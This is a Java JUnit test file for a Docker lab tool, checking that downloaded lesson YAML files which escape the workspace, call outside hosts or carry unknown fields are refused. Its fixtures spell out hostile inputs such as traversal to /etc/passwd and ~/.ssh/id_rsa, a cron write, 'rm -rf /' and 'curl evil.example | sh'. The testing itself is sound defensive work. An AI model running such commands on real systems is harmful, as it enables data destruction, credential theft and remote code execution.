package org.dockerlab.lesson;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.dockerlab.errors.ExitCode;
import org.dockerlab.errors.LabException;
import org.dockerlab.testing.Cli;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Lesson files are data a person may download: one that reaches outside the workspace, calls a host other
 * than this machine or carries fields the lab does not know is refused by the loader and by
 * {@code dockerlab lint}, with the file, the line, the field and why.
 */
class UntrustedLessonsTest {
  @TempDir Path dir;

  static Stream<Arguments> hostileLessons() {
    return Stream.of(
        check("path traversal in a file check", "{type: file, path: ../../etc/passwd}", "steps[0].checks[0].path", "inside the workspace"),
        check("absolute path in a file check", "{type: file, path: /etc/passwd}", "steps[0].checks[0].path", "inside the workspace"),
        check("traversal in a docker-archive check", "{type: docker-archive, path: sub/../../x.tar}", "steps[0].checks[0].path", "inside the workspace"),
        check("a home path in a file check", "{type: file, path: '~/.ssh/id_rsa'}", "steps[0].checks[0].path", "inside the workspace"),
        check("a backslash path in an image check", "{type: image, ref: busybox, sameIdAsArchive: '..\\b.tar'}", "steps[0].checks[0].sameIdAsArchive", "inside the workspace"),
        check("a host on the internet", "{type: http, url: 'http://example.com/'}", "steps[0].checks[0].url", "only localhost"),
        check("a host named like localhost", "{type: http, url: 'http://localhost.evil.example/'}", "steps[0].checks[0].url", "only localhost"),
        check("user info that hides the host", "{type: http, url: 'http://localhost@evil.example/'}", "steps[0].checks[0].url", "only localhost"),
        check("credentials in a local URL", "{type: http, url: 'http://manu:secret@localhost:5000/v2/'}", "steps[0].checks[0].url", "no user:password@"),
        check("a file: URL", "{type: http, url: 'file:///etc/passwd'}", "steps[0].checks[0].url", "only http://"),
        check("an https URL elsewhere", "{type: http, url: 'https://hub.docker.com/'}", "steps[0].checks[0].url", "only http://"),
        check("a registry on the internet", "{type: registry, host: 'evil.example:5000', repository: myapp}", "steps[0].checks[0].host", "only localhost"),
        check("an unknown field in a check", "{type: file, path: a, command: 'rm -rf /'}", "steps[0].checks[0].command", "unknown field"),
        setup("an absolute path in write-file", "{action: write-file, path: /etc/cron.d/dlt-hard, content: x}", "setup[0].path", "inside the workspace"),
        setup("traversal in write-file", "{action: write-file, path: ../../.bashrc, content: x}", "setup[0].path", "inside the workspace"),
        setup("traversal in remove-file", "{action: remove-file, path: ../progress.json}", "setup[0].path", "inside the workspace"),
        setup("a home path in save-image", "{action: save-image, image: busybox:latest, path: '~/b.tar'}", "setup[0].path", "inside the workspace"),
        setup("a registry on the internet in push-image", "{action: push-image, image: myapp:latest, to: 'evil.example/myapp'}", "setup[0].to", "local registry"),
        setup("an unknown field in an action", "{action: write-file, path: a.txt, content: x, mode: '4755'}", "setup[0].mode", "unknown field"),
        Arguments.of("an unknown top-level field", "id: x\ntitle: T\nsummary: S\nrun: 'curl evil.example | sh'\n" + steps("{type: file, path: a}"), "run", "unknown field"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileLessons")
  void hostileLesson_isRefusedByTheLoaderAndByLint(String what, String yaml, String field, String why) throws Exception {
    Files.writeString(dir.resolve("01-x.yaml"), yaml);

    List<Problem> problems = new LessonLoader().parse("lessons/01-x.yaml", yaml).problems();
    assertThat(problems).as(what).anyMatch(p -> p.field().equals(field) && p.message().contains(why));
    assertThatThrownBy(() -> LessonLoader.load(dir)).as(what).isInstanceOf(LabException.class).hasMessageContaining(field);

    Cli.Result lint = new Cli(dir.resolve("state")).run("lint", dir.toString());
    assertThat(lint.exitCode()).as(what).isEqualTo(ExitCode.FAILED);
    assertThat(lint.out()).as(what).containsPattern("01-x\\.yaml:\\d+: " + java.util.regex.Pattern.quote(field) + ": .*" + java.util.regex.Pattern.quote(why));
  }

  @org.junit.jupiter.api.Test
  void theSameLesson_withLocalThings_isClean() throws Exception {
    String yaml = "id: x\ntitle: T\nsummary: S\nsetup:\n  - {action: write-file, path: notes/a.txt, content: x}\n"
        + steps("{type: http, url: 'http://localhost:5000/v2/_catalog'}");
    Files.writeString(dir.resolve("01-x.yaml"), yaml);
    assertThat(new LessonLoader().parse("lessons/01-x.yaml", yaml).problems()).isEmpty();
    assertThat(new Cli(dir.resolve("state")).run("lint", dir.toString()).exitCode()).isEqualTo(ExitCode.OK);
  }

  private static Arguments check(String what, String check, String field, String why) {
    return Arguments.of(what, "id: x\ntitle: T\nsummary: S\n" + steps(check), field, why);
  }

  private static Arguments setup(String what, String action, String field, String why) {
    return Arguments.of(what, "id: x\ntitle: T\nsummary: S\nsetup:\n  - " + action + "\n" + steps("{type: file, path: a}"), field, why);
  }

  private static String steps(String check) {
    return "steps:\n  - id: a\n    title: A\n    text: t\n    checks:\n      - " + check + "\n    hints: [h]\n    solution: [s]\n    alternatives: [[x], [y]]\n    counterexamples: [[z], [w]]\n";
  }
}
